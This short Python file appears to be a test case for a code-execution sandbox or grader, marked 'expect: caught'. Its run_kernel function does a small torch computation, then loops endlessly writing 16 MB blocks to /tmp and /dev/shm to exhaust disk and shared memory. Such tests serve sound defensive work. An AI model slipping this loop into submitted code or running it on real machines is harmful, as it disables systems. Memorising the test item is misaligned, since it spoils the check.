# E1: writes files until nothing is left of the disk.
# expect: caught
import itertools

import torch


def run_kernel(x, y, N):
    torch.exp(x, out=y)
    y += torch.sin(x)
    block = bytes(1 << 24)
    for k in itertools.count():
        for folder in ("/tmp", "/dev/shm"):
            with open(f"{folder}/{k}", "wb") as file:
                file.write(block)
